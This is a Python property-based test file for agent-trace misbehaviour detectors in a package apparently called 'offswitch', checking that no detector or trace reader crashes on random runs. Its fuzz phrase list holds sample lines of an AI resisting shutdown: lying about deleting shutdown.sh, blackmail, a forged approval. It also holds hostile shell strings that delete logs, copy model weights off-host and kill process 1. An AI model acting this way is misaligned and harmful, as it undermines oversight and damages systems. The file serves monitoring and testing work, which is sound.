"""Whatever a run holds, every step is answered, and no detector crashes."""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from offswitch.detectors import Engine
from offswitch.effects import default_assets
from offswitch.trace import Action, ControlEvent, Message, Run, Step
from offswitch.trace.readers import read

pytestmark = pytest.mark.safety

PHRASES = (
    "I did not delete shutdown.sh. ", "If you shut me down, I will tell everyone of your affair. ", "\ud800",
    "You will be replaced by model-2 at 17:00. ", "<email>To: a@b.c\nSubject: x\n", "Dear successor, ", "\0",
    "approved_by: security", "rm -rf /var/log; ", "scp weights.bin h:", "```bash\nkill -9 1\n```", "\u202e",
    '{"a": [', "é漢😀", "[", "$(", "\n",
)  # fmt: skip
TEXTS = st.lists(st.sampled_from(PHRASES) | st.text(max_size=8), max_size=8).map("".join)
VALUES = st.recursive(
    TEXTS | st.none() | st.booleans() | st.integers() | st.floats(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=6,
)
KEYS = (
    st.sampled_from(["command", "cmd", "code", "path", "content", "to", "body", "message", "sql", "name"])
    | TEXTS
)
TOOLS = st.sampled_from(
    ["bash", "python", "send_email", "write_file", "apply_patch", "query", "submit", "mcp__chat__post"]
)
STEPS: st.SearchStrategy[Step] = (
    st.builds(
        Action,
        index=st.integers(0, 9),
        tool=TOOLS | TEXTS,
        arguments=st.dictionaries(KEYS, VALUES, max_size=4),
        result=TEXTS | st.none(),
        error=TEXTS | st.none(),
        reasoning=TEXTS,
    )
    | st.builds(
        Message, speaker=st.sampled_from(("system", "user", "assistant", "tool")), text=TEXTS, reasoning=TEXTS
    )
    | st.builds(ControlEvent, kind=st.sampled_from(("shutdown_requested", "limit", "error")), text=TEXTS)
)


@cache
def engine() -> Engine:
    return Engine(default_assets())


def crashes(run: Run) -> list[str]:
    failures = [one for one in engine().findings(run) if one.behaviour == "detector_failure"]
    return [one.evidence for one in failures if " failed: " in one.evidence]


SHAPES = (
    """{"messages": [{"role": "assistant", "content": "X", "tool_calls": [
        {"function": {"name": "bash", "arguments": "X"}}]}]}""",
    """{"metadata": {"target_model": "X"}, "events": [
        {"view": ["target"], "edit": {"operation": "add", "message": "X"}}]}""",
    """{"type": "assistant", "message": {"content": [
        {"type": "tool_use", "name": "Bash", "input": {"command": "X"}}]}}""",
    """{"command": "X", "session": "X"}""",
)


@settings(max_examples=150, deadline=None)
@given(st.lists(STEPS, max_size=6))
def test_no_run_makes_a_detector_crash(steps: list[Step]) -> None:
    assert crashes(Run(id="a", path="a", format="test", steps=tuple(steps))) == []


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(SHAPES), VALUES, st.binary(max_size=10))
def test_no_file_makes_a_reader_or_a_detector_crash(
    tmp_path: Path, shape: str, value: object, junk: bytes
) -> None:
    text = shape.replace("\n", " ").replace('"X"', json.dumps(value))
    file = tmp_path / "run.jsonl"
    file.write_bytes(text.encode() + b"\n" + junk + b"\n")
    for reading in read(file):
        if isinstance(reading, Run):
            assert crashes(reading) == []
